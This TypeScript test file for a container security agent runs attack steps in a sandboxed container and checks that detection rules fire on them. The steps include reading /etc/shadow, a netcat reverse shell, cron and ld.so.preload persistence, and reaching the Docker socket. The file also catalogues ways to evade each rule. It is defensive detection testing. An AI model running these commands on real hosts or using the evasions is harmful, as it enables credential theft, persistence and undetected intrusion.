// Attacks on the default rules from inside a real container, under the real agent with
// the default policy and an alerts-only output (the kernel then sends only what some
// rule can match, as in a deployment). Each test names what a rule is meant to catch,
// does it in a way the rule does not expect, and asserts that the rule fires anyway.
// Those that do not fire today are marked `todo: 'evasion: ...'`: node:test runs them
// and reports them, without failing the run, until the rule or the agent is fixed.
// The tests without todo are the plain forms of the same attacks: they show the rule
// and this harness work, so a todo that passes one day means a fix, not a broken test.
// A second agent watches the same container with fixtures/attack-proposed-fixes.yaml
// loaded as well: the "proposed fix" tests show each proposed condition catching its
// attack (the evasions that need an agent, kernel or engine change have none).
//
// One container (vigil-test/python:1: busybox with a Python service) runs every step,
// each marking its success with "ok:STEP" in the container's output; the fixtures
// (test/policy/fixtures/attack-*) are bind-mounted read-only at /fx. The container gets
// the host's Docker socket (read-only bind mounts at the usual path and at /hidden) and
// only sends GET /_ping through it.
import { before, test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { copyFileSync } from 'node:fs';
import { dirname, join, resolve } from 'node:path';
import { fileURLToPath } from 'node:url';
import type { VigilEvent } from '../../src/events/index.js';
import { ALERTS_ONLY_LOG, readEvents, startAgent } from '../helpers/agent-process.js';
import { docker, missingForContainerTests, missingWorkloadImages, uniqueName, WORKLOAD_IMAGES } from '../helpers/host.js';
import { tempDir } from '../helpers/observe.js';

const fixtures = resolve(dirname(fileURLToPath(import.meta.url)), '..', '..', '..', 'test', 'policy', 'fixtures');

function missingCompiler(): string | undefined {
  return spawnSync('gcc', ['--version'], { stdio: 'ignore' }).status === 0 ? undefined : 'gcc is needed to build the fixtures';
}

const skip = missingForContainerTests() ?? missingWorkloadImages() ?? missingCompiler();

const PY_STEPS = [
  'shell_baseline', 'shell_symlink', 'shell_busybox_argv0', 'shell_via_xargs', 'shell_parent_renamed',
  'reverse_shell_dup2', 'reverse_shell_nc', 'memfd_exec', 'rename_dirfd_bin',
  'scan_one_pid', 'scan_many_pids', 'log_overwrite', 'log_dir_moved', 'python_path_persistence',
  'docker_socket_plain', 'docker_socket_symlink', 'docker_socket_other_mount',
];

// The last step: an alert every agent writes, after all the others (see waitForEnd).
const END_MARK = 'end-of-attack';

// busybox sh steps: `s NAME COMMAND...` runs the command and prints ok:NAME when it succeeds.
const SCRIPT = `
s() { n=$1; shift; "$@" >/dev/null 2>&1 && echo "ok:$n"; }
for step in ${PY_STEPS.join(' ')}; do python3 /fx/attack-steps.py $step; done
s shadow_plain cat /etc/shadow
ln /etc/shadow /tmp/shadow-link && s shadow_hardlink cat /tmp/shadow-link
s passwd_plain cat /etc/passwd
s passwd_double_slash cat /etc//passwd
s passwd_dot cat /etc/./passwd
s passwd_python python3 -c "print(len(open('/etc/passwd').read()))"
echo x > /tmp/evil1 && s bin_rename_absolute mv /tmp/evil1 /bin/evil1
echo x > /tmp/evil2 && (cd /bin && mv /tmp/evil2 evil2) && echo ok:bin_rename_relative
echo x > /tmp/evil3 && (cd /bin && ln /tmp/evil3 evil3) && echo ok:bin_link_relative
mkdir -p /etc/cron.d && echo '* * * * * root id' > /tmp/attack-cron && (cd /etc/cron.d && mv /tmp/attack-cron attack-job) && echo ok:cron_rename_relative
s exe_volume /fx/hello
cp /fx/hello /data/hello && s exe_tmpfs /data/hello
cp /fx/hello /tmp/hello && s exe_tmp /tmp/hello
cp /fx/hello-dyn /tmp/hello-dyn && s exe_ld_so /lib64/ld-linux-x86-64.so.2 /tmp/hello-dyn
cp /fx/selfdelete /usr/selfdelete && s exe_self_deleting /usr/selfdelete
dpkg --version >/dev/null 2>&1; echo ok:dpkg_applet
s nsenter_applet nsenter --help
: > /tmp/attack-preload && (cd /etc && mv /tmp/attack-preload ld.so.preload) && echo ok:preload_rename_relative
cat /etc/shadow ${END_MARK} >/dev/null 2>&1
exit 0
`;

let run: { logs: string } | undefined;
let alerts: VigilEvent[] = [];
/** The same container seen by a second agent that also loads the proposed fixes. */
let fixedAlerts: VigilEvent[] = [];

before(async () => {
  if (skip) return;
  const fx = tempDir('vigil-attack-fx');
  const cc = (args: string[]) => {
    const r = spawnSync('gcc', args, { encoding: 'utf8' });
    assert.equal(r.status, 0, r.stderr);
  };
  cc(['-static', '-O2', '-o', join(fx, 'hello'), join(fixtures, 'attack-hello.c')]);
  cc(['-O2', '-o', join(fx, 'hello-dyn'), join(fixtures, 'attack-hello.c')]);
  cc(['-static', '-O2', '-o', join(fx, 'selfdelete'), join(fixtures, 'attack-selfdelete.c')]);
  copyFileSync(join(fixtures, 'attack-steps.py'), join(fx, 'attack-steps.py'));
  const fixes = join(fixtures, 'attack-proposed-fixes.yaml');
  const agents = await Promise.all([startAgent([ALERTS_ONLY_LOG]), startAgent([ALERTS_ONLY_LOG, '--policy', fixes])]);
  const name = uniqueName('vigil-attack');
  let id = '';
  try {
    id = docker('run', '-d', '--pull', 'never', '--name', name,
      '-v', `${fx}:/fx:ro`, '--tmpfs', '/data:exec',
      '-v', '/var/run/docker.sock:/var/run/docker.sock:ro', '-v', '/var/run/docker.sock:/hidden/d.sock:ro',
      WORKLOAD_IMAGES.python, 'sh', '-c', SCRIPT);
    docker('wait', name);
    const out = spawnSync('docker', ['logs', name], { encoding: 'utf8' });
    run = { logs: `${out.stdout}${out.stderr}` };
    // A busy machine can leave an agent far behind the container: stop it only once
    // it has written the last step's alert (every earlier record came before it).
    for (const agent of agents) await waitForEnd(agent.logPath, id);
  } finally {
    spawnSync('docker', ['rm', '-f', name], { stdio: 'ignore' });
  }
  const views = [];
  for (const agent of agents) {
    const { code, events } = await agent.stop();
    assert.equal(code, 0, agent.stderr());
    views.push(events.filter((e) => e.container.id === id && !e.process.containerSetup));
  }
  [alerts, fixedAlerts] = views as [VigilEvent[], VigilEvent[]];
});

async function waitForEnd(logPath: string, id: string, timeoutMs = 300_000): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  const ended = () => readEvents(logPath).some((e) => e.container.id === id && e.process.args.includes(END_MARK) && e.verdict.rules.includes('read sensitive file'));
  while (!ended()) {
    if (Date.now() > deadline) assert.fail(`the agent writing ${logPath} did not reach the end of the attack within ${timeoutMs} ms`);
    await new Promise((r) => setTimeout(r, 250));
  }
}

type Match = (e: VigilEvent) => boolean;

const argsOf = (e: VigilEvent) => e.args as Record<string, unknown>;
const cmdHas = (word: string): Match => (e) => e.process.args.some((a) => a.includes(word));
const pathIs = (path: string): Match => (e) => argsOf(e)['path'] === path;

/** Asserts that the step ran and that the rule fired on an event of it. */
function expectAlert(step: string, rule: string, match: Match, from: VigilEvent[] = alerts): void {
  assert.ok(run, 'the container did not run');
  assert.ok(run.logs.split('\n').includes(`ok:${step}`), `step ${step} did not succeed; container output:\n${run.logs}`);
  const hits = from.filter((e) => e.verdict.rules.includes(rule) && match(e));
  const seen = from.map((e) => `${e.verdict.rules.join('+')} ${e.kind}/${e.syscall} ${e.process.comm} ${JSON.stringify(e.process.args).slice(0, 80)} ${JSON.stringify(e.args).slice(0, 160)}`);
  assert.ok(hits.length > 0, `'${rule}' did not fire for step ${step}; the container's alerts:\n${seen.join('\n')}`);
}

/**
 * One attack: `rule` of the default policy must fire on an event `match` picks. With
 * `todo`, it does not today; `fix` then names the rule of attack-proposed-fixes.yaml
 * that catches it (checked by a test of its own, on the agent that loads that file).
 */
/** Evasions the review found that the default rules now catch: plain tests from here on. */
const FIXED = new Set([
  // The kernel names the socket reached (args.peer_path: the host's /run/docker.sock).
  'container runtime socket access: connect to the Docker socket through a symlink',
  'container runtime socket access: connect to the Docker socket mounted at another path',
  'execve shell: sh through a symlink named otherwise (comm is the link name)',
  'execve shell: execve("/bin/busybox", ["sh", ...])',
  'package manager at run time: busybox dpkg applet',
  'enter namespace: busybox nsenter applet',
  'execve shell: sh started by a service that renamed itself "sh" (prctl PR_SET_NAME)',
  'reverse shell: busybox `nc HOST PORT -e sh`',
  'execve shell: busybox `nc HOST PORT -e sh` is a shell too',
  'binary not from image: a program on a bind-mounted volume',
  'binary not from image: a program on a tmpfs (--tmpfs /data:exec)',
  'binary not from image: a program run by the dynamic loader (ld.so /tmp/x)',
  'binary not from image: a program that deletes itself at once',
  'opening passwd: cat /etc//passwd',
  'opening passwd: cat /etc/./passwd',
  'log or history tampering: a log overwritten in place (O_RDWR, no O_TRUNC)',
  'log or history tampering: the whole /var/log directory renamed away',
  // The kernel reads the new name's own directory (base2): new_path is computed.
  'write below binary directory: cd /bin && mv /tmp/x x (rename, new name relative, old absolute)',
  'write below binary directory: cd /bin && ln /tmp/x x (hard link)',
  'write below binary directory: renameat(fd of /tmp, x, fd of /bin, x)',
  'persistence through cron: cd /etc/cron.d && mv /tmp/job job',
  'persistence through ld.so.preload: cd /etc && mv /tmp/x ld.so.preload',
]);

function attack(title: string, step: string, rule: string, match: Match, todo?: string, fix?: string | [string, Match]): void {
  const open = todo !== undefined && !FIXED.has(`${rule}: ${title}`);
  test(`${rule}: ${title}`, open ? { skip, todo: `evasion: ${todo}` } : { skip }, () => expectAlert(step, rule, match));
  if (fix) {
    const [fixRule, fixMatch] = typeof fix === 'string' ? [fix, match] : fix;
    test(`proposed fix '${fixRule}' catches: ${title}`, { skip }, () => expectAlert(step, fixRule, fixMatch, fixedAlerts));
  }
}

const execOf = (m: Match): Match => (e) => e.kind === 'exec' && m(e);

// --- execution -------------------------------------------------------------------------

attack('a service starting sh', 'shell_baseline', 'execve shell', execOf(cmdHas('shell_baseline')));
attack('sh through a symlink named otherwise (comm is the link name)', 'shell_symlink', 'execve shell', execOf(cmdHas('shell_symlink')),
  "comm is 'notashell'; the exe is /bin/busybox and argv[0] is 'sh'", 'fixed: execve shell');
attack('execve("/bin/busybox", ["sh", ...])', 'shell_busybox_argv0', 'execve shell', execOf(cmdHas('shell_busybox_argv0')),
  "comm is 'busybox'; the applet is argv[0]", 'fixed: execve shell');
attack('sh started through xargs, one of shell_parents_allowed', 'shell_via_xargs', 'execve shell', execOf(cmdHas('shell_via_xargs')),
  'any program can put a wrapper of shell_parents_allowed (xargs, find, timeout...) between itself and a shell', 'fixed: execve shell');
attack('sh started by a service that renamed itself "sh" (prctl PR_SET_NAME)', 'shell_parent_renamed', 'execve shell', execOf(cmdHas('shell_parent_renamed')),
  "process.parent is the parent's comm, which it sets itself; process.parentExe is /usr/bin/python3.11", 'fixed: execve shell');
attack('a shell with a TCP socket as stdio (socket dup2ed, then exec)', 'reverse_shell_dup2', 'reverse shell', execOf(cmdHas('reverse_shell_dup2')));
attack('busybox `nc HOST PORT -e sh`', 'reverse_shell_nc', 'reverse shell', execOf((e) => e.process.args.length === 1 && e.process.args[0] === 'sh'),
  "nc runs sh as /proc/self/exe: the exec's comm is 'exe' (busybox renames itself with prctl afterwards)", 'fixed: reverse shell');
attack('busybox `nc HOST PORT -e sh` is a shell too', 'reverse_shell_nc', 'execve shell', execOf((e) => e.process.args.length === 1 && e.process.args[0] === 'sh'),
  "the exec's comm is 'exe' (filename /proc/self/exe)", 'fixed: execve shell');
attack('memfd_create + exec', 'memfd_exec', 'fileless execution', execOf(cmdHas('/proc/self/fd/')));
attack('a program copied to /tmp', 'exe_tmp', 'binary not from image', execOf((e) => e.process.exe === '/tmp/hello'));
attack('a program on a bind-mounted volume', 'exe_volume', 'binary not from image', execOf((e) => e.process.exe === '/fx/hello'),
  'the rule ignores process.exeInImage (false here): only the writable layer and /tmp, /dev/shm, /var/tmp, /run count', 'fixed: binary not from image');
attack('a program on a tmpfs (--tmpfs /data:exec)', 'exe_tmpfs', 'binary not from image', execOf((e) => e.process.exe === '/data/hello'),
  'the rule ignores process.exeInImage (false here)', 'fixed: binary not from image');
attack('a program run by the dynamic loader (ld.so /tmp/x)', 'exe_ld_so', 'binary not from image', execOf(cmdHas('/tmp/hello-dyn')),
  'the exe is /lib64/ld-linux-x86-64.so.2, an image file; the program it maps is only an argument', 'fixed: binary not from image');
attack('a program that deletes itself at once', 'exe_self_deleting', 'binary not from image', execOf((e) => e.process.exe === '/usr/selfdelete'),
  'exeWritten is looked up in the upper directory after the fact: the file is gone by then (exeInImage is false)', 'fixed: binary not from image');
attack('busybox dpkg applet', 'dpkg_applet', 'package manager at run time', execOf((e) => e.process.args[0] === 'dpkg'),
  "busybox runs applets as /proc/self/exe: the exec's comm is 'exe'", 'fixed: package manager at run time');
attack('busybox nsenter applet', 'nsenter_applet', 'enter namespace', execOf((e) => e.process.args[0] === 'nsenter'),
  "the exec's comm is 'exe'", 'fixed: enter namespace');

// --- files -----------------------------------------------------------------------------

attack('cat /etc/shadow', 'shadow_plain', 'read sensitive file', (e) => cmdHas('/etc/shadow')(e) && pathIs('/etc/shadow')(e));
attack('/etc/shadow read through a hard link', 'shadow_hardlink', 'read sensitive file', pathIs('/tmp/shadow-link'),
  'the kernel path of the open is the link\'s name (/tmp/shadow-link), and the link itself is not judged', ['fixed: credential file linked or moved', (e) => pathIs('/etc/shadow')(e) && argsOf(e)['new_path'] === '/tmp/shadow-link']);
attack('/etc/shadow hard-linked (the link itself is judged)', 'shadow_hardlink', 'credential file linked or moved', (e) => pathIs('/etc/shadow')(e) && argsOf(e)['new_path'] === '/tmp/shadow-link');
attack('cat /etc/passwd', 'passwd_plain', 'opening passwd', (e) => cmdHas('/etc/passwd')(e) && pathIs('/etc/passwd')(e));
attack('cat /etc//passwd', 'passwd_double_slash', 'opening passwd', (e) => cmdHas('/etc//passwd')(e) && pathIs('/etc/passwd')(e),
  "the argument '/etc//passwd' neither contains '/etc/passwd' nor is a suffix of it", 'fixed: opening passwd');
attack('cat /etc/./passwd', 'passwd_dot', 'opening passwd', (e) => cmdHas('/etc/./passwd')(e) && pathIs('/etc/passwd')(e),
  "the argument '/etc/./passwd' neither contains '/etc/passwd' nor is a suffix of it", 'fixed: opening passwd');
attack("python3 -c \"open('/etc/passwd')\" (O_CLOEXEC, as Python opens every file)", 'passwd_python', 'opening passwd', (e) => e.process.comm === 'python3' && cmdHas('/etc/passwd')(e) && pathIs('/etc/passwd')(e),
  undefined, 'fixed: opening passwd'); // an evasion at 4077559 (O_CLOEXEC excluded interpreters' opens), fixed on main
attack('mv /tmp/x /bin/x', 'bin_rename_absolute', 'write below binary directory', (e) => argsOf(e)['new_path'] === '/bin/evil1');
attack('cd /bin && mv /tmp/x x (rename, new name relative, old absolute)', 'bin_rename_relative', 'write below binary directory', (e) => argsOf(e)['newname'] === 'evil2',
  'new_path is not computed when the first name is absolute and the second relative (describe.ts secondPath: r.base undefined)');
attack('cd /bin && ln /tmp/x x (hard link)', 'bin_link_relative', 'write below binary directory', (e) => argsOf(e)['newname'] === 'evil3',
  'same: no new_path, and dest_path falls back to the old name (/tmp/evil3)');
attack('renameat(fd of /tmp, x, fd of /bin, x)', 'rename_dirfd_bin', 'write below binary directory', (e) => argsOf(e)['newname'] === 'rename_dirfd_bin',
  'new_path is not computed when the two names are relative to different directory fds');
attack('cd /etc/cron.d && mv /tmp/job job', 'cron_rename_relative', 'persistence through cron', (e) => argsOf(e)['newname'] === 'attack-job',
  'no new_path (see the rename into /bin)');
attack('cd /etc && mv /tmp/x ld.so.preload', 'preload_rename_relative', 'persistence through ld.so.preload', (e) => argsOf(e)['newname'] === 'ld.so.preload',
  'no new_path (see the rename into /bin)');
attack('a log overwritten in place (O_RDWR, no O_TRUNC)', 'log_overwrite', 'log or history tampering', (e) => pathIs('/var/log/overwrite.log')(e) && cmdHas('log_overwrite')(e) && e.syscall.startsWith('open'),
  'only unlink, truncate, rename, O_TRUNC and symlinks to /dev/null count; writing over the content does not', 'fixed: log or history tampering');
attack('the whole /var/log directory renamed away', 'log_dir_moved', 'log or history tampering', (e) => argsOf(e)['path'] === '/var/log' && e.syscall.startsWith('rename'),
  "the path is '/var/log', which does not start with '/var/log/'", 'fixed: log or history tampering');
attack('a .pth file below /usr/local/lib (code run by every Python)', 'python_path_persistence', 'write below binary directory',
  (e) => String(argsOf(e)['path'] ?? '').endsWith('.pth'),
  '/usr/local/lib/ is not in binary_dirs (nor /usr/local/lib64/, /usr/libexec/, /opt/)', 'write below binary directory');

// --- network and runtime ---------------------------------------------------------------

attack('30 refused connections from one process', 'scan_one_pid', 'network scan', cmdHas('scan_one_pid'));
attack('30 refused connections, each from its own forked process (the per-container rule)', 'scan_many_pids', 'network scan from many processes', cmdHas('scan_many_pids'));
attack('30 refused connections, each from its own forked process', 'scan_many_pids', 'network scan', cmdHas('scan_many_pids'),
  'the threshold counts per process: 30 processes with one failure each never reach 20');
attack('connect to /var/run/docker.sock', 'docker_socket_plain', 'container runtime socket access', (e) => argsOf(e)['addr'] === '/var/run/docker.sock');
attack('connect to the Docker socket through a symlink', 'docker_socket_symlink', 'container runtime socket access', (e) => argsOf(e)['addr'] === '/tmp/d.sock',
  'args.addr is the name given to connect(), not the socket reached');
attack('connect to the Docker socket mounted at another path', 'docker_socket_other_mount', 'container runtime socket access', (e) => argsOf(e)['addr'] === '/hidden/d.sock',
  'args.addr is the name in the container; the socket is the host\'s /run/docker.sock');
